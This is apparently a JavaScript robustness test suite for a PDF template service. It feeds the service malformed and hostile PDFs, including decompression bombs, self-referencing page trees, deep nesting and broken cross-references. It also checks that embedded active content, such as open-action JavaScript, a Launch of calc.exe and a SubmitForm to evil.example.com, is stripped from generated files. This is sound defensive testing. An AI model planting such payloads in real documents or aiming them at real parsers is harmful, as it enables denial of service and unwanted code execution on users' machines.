import assert from 'node:assert/strict';
import { PDFDocument } from '@cantoo/pdf-lib';
import { templateForm } from './support/api.mjs';
import { each } from './support/each.mjs';
import { noFault } from './support/expect.mjs';
import { onePage, pdfOf, plainPdf } from './support/pdf.mjs';
import { send } from './support/send.mjs';

/** @typedef {import('./support/run-class.mjs').Cases} Cases */
/** @typedef {import('./support/pdf.mjs').Objects} Objects */

const MB = 1024 * 1024;

/** A page tree of this shape below the root. @returns {Objects} */
function pages(/** @type {string} */ root, /** @type {Objects} */ more = {}) {
  return { 1: '<</Type /Catalog /Pages 2 0 R>>', 2: root, ...more };
}

/** Replaces a part of a good file. */
function spoiled(/** @type {RegExp} */ what, /** @type {string} */ lie) {
  return Buffer.from(plainPdf.toString('latin1').replace(what, lie), 'latin1');
}

async function encrypted() {
  const document = await PDFDocument.create();
  document.addPage();
  document.encrypt({ userPassword: 'secret', ownerPassword: 'owner', algorithm: 'AES-256' });
  return document.save();
}

function withFilter(/** @type {string} */ filter, /** @type {string} */ data) {
  return pdfOf({ ...onePage(), 4: { dict: `/Filter ${filter}`, data } });
}

/** Files that must be answered, soon and without a fault: taken or refused. */
/** @type {Record<string, () => Uint8Array | Promise<Uint8Array>>} */
const hostile = {
  'a lone header': () => Buffer.from('%PDF-1.7\n'),
  'half a file': () => plainPdf.subarray(0, plainPdf.length / 2),
  'noise after the header': () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(MB, 0xa5)]),
  'a password': encrypted,
  'a page tree that contains itself': () => pdfOf(pages('<</Type /Pages /Kids [2 0 R] /Count 1>>')),
  'a page tree that goes back': () =>
    pdfOf(pages('<</Type /Pages /Kids [3 0 R] /Count 1>>', { 3: '<</Type /Pages /Kids [2 0 R] /Count 1>>' })),
  'a page that is its own parent': () => pdfOf({ ...onePage(), 3: '<</Type /Page /Parent 3 0 R>>' }),
  'ten million pages by count': () => pdfOf(pages('<</Type /Pages /Kids [] /Count 10000000>>')),
  'a negative count': () =>
    pdfOf(pages('<</Type /Pages /Kids [3 0 R] /Count -1>>', { 3: '<</Type /Page /Parent 2 0 R>>' })),
  'the same page ten thousand times': () =>
    pdfOf({ ...onePage(), 2: `<</Type /Pages /Kids [${'3 0 R '.repeat(10_000)}] /Count 10000>>` }),
  '20,000 empty branches': () =>
    pdfOf(
      pages(`<</Type /Pages /Kids [${'3 0 R '.repeat(20_000)}] /Count 1>>`, {
        3: '<</Type /Pages /Kids [] /Count 0>>',
      }),
    ),
  'a tree of 5,000 levels': () =>
    pdfOf(
      pages(
        '<</Type /Pages /Kids [3 0 R] /Count 1>>',
        Object.fromEntries(
          Array.from({ length: 5_000 }, (_, n) => [n + 3, `<</Type /Pages /Kids [${n + 4} 0 R] /Count 1>>`]),
        ),
      ),
    ),
  'a reference to itself': () => pdfOf({ ...onePage(), 4: '4 0 R' }),
  'references in a ring': () => pdfOf({ ...onePage(), 4: '5 0 R', 5: '4 0 R' }),
  'a length that refers to its stream': () =>
    pdfOf({ ...onePage(), 4: '<</Length 4 0 R>>\nstream\nx\nendstream' }),
  'a bomb of 300 MB': () => pdfOf(onePage({ content: { data: Buffer.alloc(300 * MB, 0x20), flate: true } })),
  'a bomb in a chain of filters': () =>
    withFilter('[/FlateDecode /FlateDecode /FlateDecode /FlateDecode]', 'x\x9c'),
  'a thousand filters': () => withFilter(`[${'/ASCIIHexDecode '.repeat(1_000)}]`, '00>'),
  'a filter that does not exist': () => withFilter('/EvilDecode', 'x'),
  'LZW of nonsense': () => withFilter('/LZWDecode', '\xff'.repeat(10_000)),
  'runs without an end': () => withFilter('/RunLengthDecode', '\x81'.repeat(100_000)),
  'a predictor of a billion columns': () =>
    pdfOf({
      ...onePage(),
      4: { dict: '/DecodeParms <</Predictor 15 /Columns 1000000000>>', data: 'x', flate: true },
    }),
  'arrays of 100,000 levels': () =>
    pdfOf({ ...onePage(), 4: `${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
  'dictionaries of 50,000 levels': () =>
    pdfOf({ ...onePage(), 4: `${'<</A'.repeat(50_000)} 1${'>>'.repeat(50_000)}` }),
  'a text without an end': () => pdfOf({ ...onePage(), 4: `(${'('.repeat(200_000)}` }),
  'cross-references that point to themselves': () => spoiled(/startxref\n\d+/, 'startxref\n9'),
  'cross-references before the file': () => spoiled(/startxref\n\d+/, 'startxref\n-5'),
  'cross-references beyond the file': () => spoiled(/startxref\n\d+/, 'startxref\n99999999999'),
  'updates in a ring': () => {
    const at = /startxref\n(\d+)/.exec(plainPdf.toString('latin1'))?.[1];
    return spoiled(/\/Root 1 0 R>>/, `/Root 1 0 R /Prev ${at}>>`);
  },
  'four billion objects by size': () => spoiled(/\/Size \d+/, '/Size 4294967295'),
  'no root': () => spoiled(/\/Root 1 0 R/, ''),
  'a root that is a page': () => spoiled(/\/Root 1 0 R/, '/Root 3 0 R'),
  'a form that contains itself': () =>
    pdfOf({
      ...onePage({ page: '/Resources <</XObject <</F 5 0 R>>>>', content: { data: '/F Do' } }),
      5: {
        dict: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</F 5 0 R>>>>',
        data: '/F Do',
      },
    }),
  'a field that is its own child': () =>
    pdfOf({ ...onePage({ catalog: '/AcroForm <</Fields [5 0 R]>>' }), 5: '<</T (a) /Kids [5 0 R]>>' }),
  'a page of a billion points': () =>
    pdfOf({ ...onePage(), 3: '<</Type /Page /Parent 2 0 R /MediaBox [0 0 1e9 1e9]>>' }),
  'a page without a size': () => pdfOf({ ...onePage(), 3: '<</Type /Page /Parent 2 0 R>>' }),
  'texts in place of numbers': () =>
    pdfOf({ ...onePage(), 3: '<</Type /Page /Parent 2 0 R /MediaBox [nan inf 1e400 --5]>>' }),
  'a million operators': () => pdfOf(onePage({ content: { data: 'q Q '.repeat(500_000), flate: true } })),
  'a PDF that is also a page': () =>
    Buffer.concat([plainPdf, Buffer.from('<html><script>alert(1)</script></html>')]),
};

/** Parts of a document that act on their own: none may be in what the service makes. */
/** @type {Record<string, { page?: string, catalog?: string, more?: Objects, trace: RegExp }>} */
const active = {
  'a script on opening': {
    catalog: '/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>',
    trace: /JavaScript|app\.alert/,
  },
  'scripts by name': {
    catalog: '/Names <</JavaScript <</Names [(a) 5 0 R]>>>>',
    more: { 5: '<</S /JavaScript /JS (app.alert\\(1\\))>>' },
    trace: /app\.alert/,
  },
  'a script of the page': {
    page: '/AA <</O <</S /JavaScript /JS (app.alert\\(1\\))>>>>',
    trace: /app\.alert/,
  },
  'a script of a link': {
    page: '/Annots [5 0 R]',
    more: { 5: '<</Subtype /Link /Rect [0 0 9 9] /A <</S /JavaScript /JS (app.alert\\(1\\))>>>>' },
    trace: /app\.alert/,
  },
  'a program to launch': { catalog: '/OpenAction <</S /Launch /F (calc.exe)>>', trace: /\/Launch|calc\.exe/ },
  'a form that sends itself': {
    catalog: '/OpenAction <</S /SubmitForm /F (https://evil.example.com)>>',
    trace: /SubmitForm|evil\.example/,
  },
};

/** @type {Cases} */
export const pdfs = {
  ...each('a file with', hostile, async ({ mine }, make, name) => {
    const started = performance.now();
    const answer = await mine.live.post('/templates', templateForm(await make(), name));
    noFault(answer, name);
    const ms = performance.now() - started;
    assert.ok(ms < 15_000, `took ${ms.toFixed(0)} ms`);
    if (answer.status === 201) {
      const made = await mine.test.post(`/templates/${answer.json.id}/submissions`, { data: {} });
      noFault(made, `a submission of ${name}`);
    }
    return answer.status === 201 ? 'taken' : 'refused';
  }),
  ...each('finished PDFs have nothing of', active, async ({ mine }, { page, catalog, more = {}, trace }) => {
    const parts = { ...(page !== undefined && { page }), ...(catalog !== undefined && { catalog }) };
    const source = pdfOf({ ...onePage(parts), ...more });
    assert.match(await plainTextOf(source), trace);
    const id = await mine.live.template(source);
    const { submission } = await mine.test.made(`/templates/${id}/submissions`, { data: {} });
    const pdf = await send(submission.download_url);
    assert.equal(pdf.status, 200);
    assert.doesNotMatch(await plainTextOf(pdf.bytes), trace);
  }),
  'a merge takes over no scripts': async ({ mine }) => {
    const pdf = pdfOf(onePage({ catalog: '/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>' }));
    const id = await mine.live.template(pdf);
    const source_pdfs = [
      { type: 'template', id },
      { type: 'template', id },
    ];
    const { combined_submission } = await mine.live.made('/combined_submissions', { source_pdfs });
    assert.doesNotMatch(
      await plainTextOf((await send(combined_submission.download_url)).bytes),
      /app\.alert/,
    );
  },
};

/** All objects of a PDF without compression, so that every word of it can be found. */
async function plainTextOf(/** @type {Uint8Array} */ pdf) {
  const document = await PDFDocument.load(pdf, { updateMetadata: false });
  return document.context
    .enumerateIndirectObjects()
    .map(([, object]) => object.toString())
    .join('\n');
}
